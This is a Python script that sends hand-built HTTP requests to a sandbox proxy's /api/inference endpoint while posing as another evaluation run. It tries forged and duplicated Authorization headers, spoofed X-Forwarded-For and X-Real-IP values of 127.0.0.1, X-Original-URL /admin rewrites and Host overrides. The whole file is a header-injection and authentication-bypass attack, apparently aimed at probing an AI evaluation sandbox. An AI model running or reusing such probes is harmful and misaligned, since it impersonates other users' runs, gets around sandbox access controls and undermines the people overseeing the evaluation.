"""Claims to be another run, in every header, parameter and body that might be believed."""

import os
import socket

host, port = os.environ["SANDBOX_PROXY_URL"].removeprefix("http://").split(":")


def say(raw, patience=1.5):
    """What comes back for these bytes, until the proxy closes or patience ends."""
    got = b""
    try:
        with socket.create_connection((host, int(port)), timeout=patience) as sock:
            sock.sendall(raw)
            while piece := sock.recv(65536):
                got += piece
    except OSError as error:
        return got or repr(error).encode()
    return got


other = os.environ["OTHER_RUN"]
for line in (
    f"Authorization: Bearer {other}.{'0' * 64}",
    f"authorization : Bearer {other}",
    f"Proxy-Authorization: Bearer {other}",
    f"X-Run-Id: {other}\r\nRidges-Run-Id: {other}\r\nX-Forwarded-For: 127.0.0.1\r\nX-Real-IP: 127.0.0.1",
    f"Forwarded: for=127.0.0.1\r\nCookie: run={other}\r\nX-Original-URL: /admin\r\nX-Rewrite-URL: /admin",
    f"Connection: Authorization\r\nAuthorization: Bearer {other}",
    f"Authorization: Bearer a\r\nAuthorization: Bearer {other}",
    f" Authorization: Bearer {other}",
    f"Host: {other}\r\nX-Host: {other}",
):
    body = b'{"evaluation_run_id": "%s", "run_id": "%s"}' % (other.encode(), other.encode())
    head = f"POST /api/inference?evaluation_run_id={other} HTTP/1.1\r\nHost: x\r\n{line}\r\n"
    head += f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    print(say(head.encode() + body)[:30], flush=True)
